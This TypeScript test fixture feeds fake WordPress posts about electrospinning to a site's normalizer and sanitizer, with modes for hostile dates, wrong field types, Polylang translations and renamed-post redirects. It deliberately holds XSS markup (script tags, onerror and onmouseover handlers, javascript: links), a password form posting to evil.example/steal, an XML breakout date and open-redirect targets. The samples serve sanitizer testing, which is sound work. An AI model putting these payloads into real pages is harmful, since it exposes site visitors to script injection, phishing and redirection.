// Posts the fake WordPress serves, in the shape WordPress 6.1 answers with _embed (see
// /work/shared/wordpress-sample): 21 posts, newest first, so 9 per page gives 3 pages.

export type RawPost = Record<string, unknown> & { id: number; slug: string; date: string };

/** A post whose HTML tries every trick the sanitizer must remove. */
export const UNSAFE_SLUG = "unsafe-markup-test";
export const UNSAFE_CONTENT = [
  "<h2>Safe heading</h2>",
  '<p>Safe paragraph with <a href="https://example.org/paper">a paper</a>.</p>',
  "<script>window.__pwned = true</script>",
  '<img src="https://media.example.com/x.png" alt="Fibres" onerror="window.__pwned = true">',
  '<p><a href="javascript:window.__pwned=true">click me</a></p>',
  '<object data="/malware.swf"><p>object fallback</p></object>',
  '<div class="wp-block-file"><a href="/report.pdf">report.pdf</a><a href="/report.pdf" class="wp-block-file__button" download>Download</a></div>',
  '<iframe src="https://evil.example/"></iframe>',
  '<form action="https://evil.example/steal"><input name="password" type="password"><button>Log in</button></form>',
  '<div style="display:none">hidden text</div>',
  "<p>Safe closing paragraph.</p>",
].join("\n");

/** The fixture post that is a paper with a DOI (WordPress's `doi` field, from the site connector). */
export const DOI_POST = { slug: "fixture-post-11", doi: "10.5555/2025.0011" } as const;

const AUTHORS = [
  { id: 2, name: "Dr. Jana Nov\u00e1kov\u00e1", slug: "director" },
  // The iD ORCID's documentation uses for its fictitious researcher: a valid check digit.
  {
    id: 3,
    name: "Tom\u00e1\u0161 Dvo\u0159\u00e1k",
    slug: "tomas",
    orcid: "0000-0002-1825-0097",
    // The profile's "Biographical Info": WordPress keeps a few tags in it.
    description: "Tom\u00e1\u0161 builds our <strong>spinning lines</strong> &amp; writes about them.",
  },
  { id: 4, name: "Petra Svobodov\u00e1", slug: "petra" },
];
const CATEGORIES = [
  { id: 2, name: "Nanofibers", slug: "nanofibers" },
  { id: 3, name: "Drug Delivery", slug: "drug-delivery" },
  { id: 4, name: "Tissue Engineering", slug: "tissue-engineering" },
];

function pad(n: number): string {
  return String(n).padStart(2, "0");
}

function term(
  t: { id: number; name: string; slug: string },
  taxonomy: "category" | "post_tag",
  origin: string,
) {
  const base = taxonomy === "category" ? "category" : "tag";
  return {
    ...t,
    taxonomy,
    link: `${origin}/${base}/${t.slug}/`,
    _links: { self: [{ href: `${origin}/wp-json/wp/v2/${base}/${t.id}` }] },
  };
}

/** The fixture posts; absolute addresses point at the fake's own origin (images are served there). */
export function fixturePosts(origin: string): RawPost[] {
  const posts: RawPost[] = [];
  for (let i = 0; i < 21; i++) {
    const id = 200 - i;
    const day = new Date(Date.UTC(2025, 5, 30 - i * 3, 9, 30));
    const date = `${day.getUTCFullYear()}-${pad(day.getUTCMonth() + 1)}-${pad(day.getUTCDate())}T09:30:00`;
    const unsafe = i === 1;
    const slug = i === 0 ? "electrospinning-at-scale" : unsafe ? UNSAFE_SLUG : `fixture-post-${pad(i + 1)}`;
    const author = AUTHORS[i % AUTHORS.length]!;
    const category = CATEGORIES[i % CATEGORIES.length]!;
    const image = `${origin}/wp-content/uploads/2025/06/${slug}.png`;
    const title =
      i === 0
        ? "Electrospinning at scale: lessons from the Multispin unit"
        : unsafe
          ? 'Unsafe <em>markup</em> test<script>window.__pwned = true</script><img src=x onerror="window.__pwned = true">'
          : `Fixture post ${i + 1} &#8211; &#8220;fibres&#8221; &amp; scaffolds`;
    const post: RawPost = {
      id,
      date,
      date_gmt: date.replace("T09:", "T07:"),
      guid: { rendered: `${origin}/?p=${id}` },
      modified: date,
      modified_gmt: date.replace("T09:", "T07:"),
      slug,
      status: "publish",
      type: "post",
      link: `${origin}/${slug}/`,
      title: { rendered: title },
      content: {
        rendered: unsafe
          ? UNSAFE_CONTENT
          : `<h2>Why multimode?</h2>\n<p>Needle, needleless and coaxial spinning in one unit (post ${i + 1}).</p>\n<ul>\n<li>Coaxial fibres</li>\n<li>Blend fibres</li>\n</ul>\n`,
        protected: false,
      },
      excerpt: {
        rendered: unsafe
          ? '<p onmouseover="window.__pwned = true">Unsafe excerpt <a href="javascript:void(0)">link</a></p>\n'
          : `<p>How <em>multimode</em> electrospinning changes what a small lab can make (${i + 1}).</p>\n`,
        protected: false,
      },
      author: author.id,
      featured_media: 300 + i,
      categories: [category.id],
      tags: [],
      meta: [],
      jetpack_featured_media_url: image,
      _links: { self: [{ href: `${origin}/wp-json/wp/v2/posts/${id}` }] },
      _embedded: {
        author: [
          { url: "", description: "", ...author, link: `${origin}/author/${author.slug}/`, avatar_urls: {} },
        ],
        "wp:featuredmedia": [
          {
            id: 300 + i,
            date,
            slug: `${slug}-2`,
            type: "attachment",
            title: { rendered: slug },
            alt_text: i === 0 ? "" : `Cover of post ${i + 1}`,
            media_type: "image",
            mime_type: "image/svg+xml",
            media_details: { width: 1200, height: 630, file: `2025/06/${slug}.svg`, sizes: {} },
            source_url: image,
          },
        ],
        "wp:term": [[term(category, "category", origin)], []],
      },
    };
    const embedded = post._embedded as Record<string, unknown>;
    // Variations WordPress really produces, for the UI's fallbacks and the normalizer's robustness.
    if (i === 2) delete embedded["wp:featuredmedia"]; // image only as jetpack_featured_media_url
    if (i === 3) {
      delete post.jetpack_featured_media_url;
      delete embedded["wp:featuredmedia"]; // no image at all
      embedded["wp:term"] = [[], []]; // no categories
    }
    if (post.slug === DOI_POST.slug) post.meta = { doi: DOI_POST.doi };
    if (i === 4)
      embedded.author = [
        { code: "rest_user_invalid_id", message: "Invalid user ID.", data: { status: 404 } },
      ];
    posts.push(post);
  }
  return posts;
}

/**
 * Dates the hostile-date mode gives some posts (by slug); every other post keeps its fixture date. Each is a
 * value WordPress, a plugin or an attacker could put in `date`: impossible, with markup appended, XML that
 * would break out of <lastmod>, WordPress's own "no date", and not a string at all.
 */
export const HOSTILE_DATES: Readonly<Record<string, unknown>> = {
  "fixture-post-03": "2024-13-45T99:00:00",
  "fixture-post-04": "2024-01-01T00:00:00<script>",
  "fixture-post-06": "]]></lastmod><evil/>",
  "fixture-post-07": 20240101,
  "fixture-post-09": "0000-00-00T00:00:00",
};

export function withHostileDates(posts: RawPost[]): RawPost[] {
  return posts.map((post) =>
    post.slug in HOSTILE_DATES ? ({ ...post, date: HOSTILE_DATES[post.slug] } as RawPost) : post,
  );
}

/** The wrong-types mode: posts whose fields have the wrong type. These keep an id and a slug, so stay usable. */
export const WRONG_TYPES_KEPT = ["fixture-post-03", "fixture-post-04", "fixture-post-08"];
/** ...and these have no usable id or slug: a reader must skip them. */
export const WRONG_TYPES_SKIPPED = ["fixture-post-06", "fixture-post-07"];

export function withWrongTypes(posts: RawPost[]): RawPost[] {
  const broken: Record<string, Record<string, unknown>> = {
    "fixture-post-03": { title: "a string, not {rendered}", content: { rendered: 42 } },
    "fixture-post-04": {
      _embedded: { author: "Jana", "wp:term": "Nanofibers", "wp:featuredmedia": { source_url: 5 } },
    },
    "fixture-post-06": { id: "195" },
    "fixture-post-07": { slug: "Fixture Post 07!" },
    "fixture-post-08": { _embedded: "oops", excerpt: null, jetpack_featured_media_url: 7 },
  };
  // Deliberately not RawPosts any more: that is the point of this mode.
  return posts.map((post) => (post.slug in broken ? ({ ...post, ...broken[post.slug] } as RawPost) : post));
}

/** The polylang mode's Czech posts: translations of the first three fixture posts, by these slugs. */
export const POLYLANG_CZECH = [
  "elektrostaticke-zvlaknovani-ve-velkem",
  "fixture-clanek-03",
  "fixture-clanek-04",
];

/**
 * The polylang mode: WordPress with the Polylang plugin, whose REST API gives every post `lang` and
 * `translations` ({en: 200, cs: 400}, post ids, the post itself included), and answers `?lang=` with that
 * language's posts only (https://polylang.pro/doc/rest-api/). Three English posts have a Czech translation.
 */
export function withPolylang(posts: RawPost[]): RawPost[] {
  const czech = new Map(
    [posts[0], posts[2], posts[3]].map((post, i) => [post!.id, { id: 400 + i, slug: POLYLANG_CZECH[i]! }]),
  );
  const english = posts.map((post) => {
    const twin = czech.get(post.id);
    const translations = { en: post.id, ...(twin && { cs: twin.id }) };
    return { ...withTerms(post, "en"), lang: "en", translations } as RawPost;
  });
  const translated = english.flatMap((post) => {
    const twin = czech.get(post.id);
    if (!twin) return [];
    return [
      {
        ...post,
        id: twin.id,
        slug: twin.slug,
        link: `${String(post.link).replace(post.slug, twin.slug)}`,
        title: { rendered: `Český článek ${twin.id}` },
        excerpt: {
          rendered: "<p>Jak vícerežimové zvlákňování mění to, co malá laboratoř dokáže vyrobit.</p>\n",
        },
        content: { rendered: "<p>Jehlové, bezjehlové i koaxiální zvlákňování v jedné jednotce.</p>\n" },
        _embedded: withTerms(post, "cs")._embedded,
        lang: "cs",
        translations: { en: post.id, cs: twin.id },
      } as RawPost,
    ];
  });
  return [...english, ...translated];
}

/** Polylang's Czech twins of the categories the Czech posts are in (by English id), as Polylang pairs terms. */
export const POLYLANG_CATEGORIES: Record<number, { id: number; name: string; slug: string }> = {
  2: { id: 12, name: "Nanovlákna", slug: "nanovlakna" },
  4: { id: 14, name: "Tkáňové inženýrství", slug: "tkanove-inzenyrstvi" },
};

/** The post's categories in `lang`, each with its `lang` and `translations` ({en: id, cs: id}). */
function withTerms(post: RawPost, lang: "en" | "cs"): RawPost {
  const embedded = post._embedded as { "wp:term"?: Record<string, unknown>[][] } | undefined;
  const categories = (embedded?.["wp:term"]?.[0] ?? []).map((term) => {
    const twin = POLYLANG_CATEGORIES[term.id as number];
    const translations = { en: term.id, ...(twin && { cs: twin.id }) };
    return lang === "cs" && twin ? { ...term, ...twin, lang, translations } : { ...term, lang, translations };
  });
  if (!embedded?.["wp:term"]) return post;
  return { ...post, _embedded: { ...embedded, "wp:term": [categories, ...embedded["wp:term"].slice(1)] } };
}

/**
 * What the site connector's redirect endpoint (/wp-json/site-connector/v1/redirect?path=/old) answers, by old
 * slug, as `to`: WordPress's own `_wp_old_slug` record of a renamed post, and answers the site must refuse
 * (another host, the same address, a post that is gone, something that is no post's address).
 */
export const OLD_SLUGS: Record<string, string> = {
  "electrospinning-at-scale-lessons": "/electrospinning-at-scale/",
  "moved-off-site": "https://evil.example/electrospinning-at-scale/",
  "moved-protocol-relative": "//evil.example/electrospinning-at-scale",
  "moved-to-itself": "/moved-to-itself/",
  "moved-to-a-gone-post": "/no-such-post/",
  "moved-to-a-page": "/about/team/",
};
